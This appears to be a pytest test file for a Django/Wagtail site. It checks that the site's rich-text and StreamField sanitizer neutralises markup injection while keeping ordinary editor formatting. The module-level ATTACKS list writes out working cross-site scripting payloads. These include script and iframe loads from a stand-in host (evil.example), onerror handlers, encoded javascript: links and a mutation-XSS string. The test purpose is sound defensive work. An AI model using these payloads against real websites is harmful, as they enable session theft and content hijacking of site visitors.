"""Whatever way text with markup comes in, nothing in it runs, frames or loads anything."""

import re

import pytest
from django.db.models import TextField
from django.db.models.functions import Cast
from wagtail.fields import StreamField
from wagtail.models import get_page_models
from wagtail.rich_text import RichText

from content.blocks.safe import SafeText, harmless
from content.blocks.stream import Stream
from content.blocks.text import TextBlock
from content.pages.models import GuidePage, HomePage, StandardPage, StepByStepPage

ATTACKS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="steal()">',
    '<p onclick="steal()" style="background:url(javascript:steal())">Text</p>',
    '<a href="javascript:steal()">Here</a>',
    '<a href="java\tscript:steal()">Here</a>',
    '<a href="&#106;avascript:steal()">Here</a>',
    '<a href="data:text/html,<script>steal()</script>">Here</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "<svg><script>steal()</script></svg>",
    '<svg/onload="steal()">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=steal()>">',
    '<form action="https://evil.example/"><input name="code"></form>',
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0">',
    "<p><!-- <script>steal()</script> --></p>",
    '<embed embedtype="media" url="https://evil.example/video"/>',
    "<b <script>steal()</script>",
]
LOADED = re.compile(r"<(?!/?(?:div|p|b|a|strong|em|i|br|ul|ol|li|h2|h3)\b)[a-z!/]", re.IGNORECASE)
ATTRIBUTE = re.compile(r"<[^>]*\s(on\w+|style|src|data|action)\s*=", re.IGNORECASE)


def inert(html: str) -> bool:
    scheme = re.search(r'href="\s*(javascript|data|vbscript)', html, re.IGNORECASE)
    return not LOADED.search(html) and not ATTRIBUTE.search(html) and scheme is None


@pytest.mark.parametrize("attack", ATTACKS)
class TestNothingRuns:
    def test_in_what_is_stored_by_a_block(self, attack):
        assert inert(TextBlock().get_prep_value(RichText(attack)))

    def test_in_what_is_shown_even_if_it_was_stored_before(self, attack, db):
        assert inert(str(SafeText(attack)))
        block = TextBlock()
        assert inert(block.render(block.to_python(attack)))

    def test_in_a_field_of_a_page(self, attack, db):
        field = HomePage._meta.get_field("help_text")
        assert inert(field.get_prep_value(attack))
        assert inert(str(HomePage(help_text=attack).help))


class TestARowOfBlocksThatNobodyLookedAt:
    """As a script or an import hands it over: plain lists."""

    ATTACK = '<p>Text</p><script>steal()</script><p onclick="steal()">More</p>'

    @pytest.mark.parametrize(
        ("model", "field", "value"),
        [
            (StandardPage, "body", {"type": "text", "value": ATTACK}),
            (StepByStepPage, "steps", {"type": "step", "value": {"title": "First", "text": ATTACK}}),
            (
                GuidePage,
                "chapters",
                {"type": "chapter", "value": {"heading": "One", "body": [{"type": "text", "value": ATTACK}]}},
            ),
        ],
    )
    def test_is_cleaned_when_it_is_stored(self, db, model, field, value):
        page = model(**{field: [value]})
        stored = page.serializable_data()[field]
        assert "steal" not in stored and "<p>More</p>" in stored
        assert "steal" not in str(model._meta.get_field(field).get_prep_value(getattr(page, field)))

    def test_is_cleaned_in_the_table(self, home):
        page = StandardPage(title="Help", slug="help-you", locale=home.locale, body=[{"type": "text", "value": "x"}])
        home.add_child(instance=page)
        page.body = [{"type": "text", "value": self.ATTACK}]
        page.save()
        stored = StandardPage.objects.filter(pk=page.pk).annotate(raw=Cast("body", TextField())).get().raw
        assert "steal" not in stored and "More" in stored

    def test_every_row_of_every_page_is_such_a_row(self):
        rows = [
            field for model in get_page_models() for field in model._meta.get_fields() if isinstance(field, StreamField)
        ]
        assert rows
        assert [str(field) for field in rows if not isinstance(field.stream_block, Stream)] == []


def test_nothing_is_asked_of_another_site_to_show_a_text(db, monkeypatch):
    asked = []
    monkeypatch.setattr("wagtail.embeds.embeds.get_embed", lambda url, *sizes: asked.append(url))
    assert "youtube" not in str(SafeText('<embed embedtype="media" url="https://www.youtube.com/watch?v=1"/>'))
    assert not asked


class TestWhatEditorsMayWrite:
    def test_stays_as_it_is(self, db):
        written = (
            '<h2>When</h2><p>Call <b>1450</b> or <a href="mailto:help@example.org">write</a>.</p><ul><li>Now</li></ul>'
        )
        assert str(SafeText(written)) == written

    def test_links_to_pages_and_documents_survive_storing(self):
        stored = '<p data-block-key="a1"><a linktype="page" id="3">Offices</a></p>'
        assert 'linktype="page"' in harmless(stored) and 'id="3"' in harmless(stored)
        assert 'data-block-key="a1"' in harmless(stored)

    def test_a_link_to_a_page_leads_to_its_address(self, home):
        page = home.get_children().get(slug="privacy")
        assert '<a href="/privacy/">' in str(SafeText(f'<p><a linktype="page" id="{page.pk}">Privacy</a></p>'))

    def test_other_peoples_keys_are_not_sent_to_readers(self, db):
        assert "data-block-key" not in str(SafeText('<p data-block-key="a1">Text</p>'))


@pytest.mark.parametrize("broken", ["<p><img src=x></p>", "<p>Never closed <b>bold", "<iframe></p>"])
def test_a_text_with_marks_that_are_never_closed_can_still_be_edited(broken):
    block = TextBlock()
    block.set_name("text")
    assert block.get_form_state(block.to_python(broken))
